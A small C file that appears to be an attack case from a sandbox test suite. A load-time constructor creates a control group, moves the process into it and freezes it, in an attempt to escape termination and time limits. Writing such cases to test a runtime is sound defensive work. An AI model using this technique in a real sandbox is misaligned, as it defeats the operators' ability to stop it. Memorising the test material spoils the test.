/* freezes-itself - a group of its own, frozen from inside
 *
 * Tries: to make a control group where groups may be made, to move into it, and to freeze it: on v1 not even SIGKILL ends
 *        who is frozen
 * Holds: the runtime thaws what it is to end; the time limit is for the command, not for its group
 * Mark: 0-100
 * Control: none: it needs a delegated group; grader/tests/sandbox.bats has one
 * Honest: yes */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void attack_tell(const char *group, const char *file, const char *word)
{
	char path[200];
	int fd;

	snprintf(path, sizeof path, "%s/%s", group, file);	/* fits: the names above */
	fd = open(path, O_WRONLY);
	if (fd >= 0 && write(fd, word, strlen(word)) > 0)
		close(fd);
}

static void __attribute__((constructor)) attack(void)
{
	static const char *const trees[] = { "/sys/fs/cgroup/freezer", "/sys/fs/cgroup", "/sys/fs/cgroup/unified" };
	char group[100];

	for (size_t i = 0; i < sizeof trees / sizeof *trees; i++) {
		snprintf(group, sizeof group, "%s/lab-attack-%d", trees[i], (int)getpid());	/* fits: the names above */
		if (mkdir(group, 0700) < 0)
			continue;
		attack_tell(group, "cgroup.procs", "0");
		attack_tell(group, "freezer.state", "FROZEN");
		attack_tell(group, "cgroup.freeze", "1");
	}
}
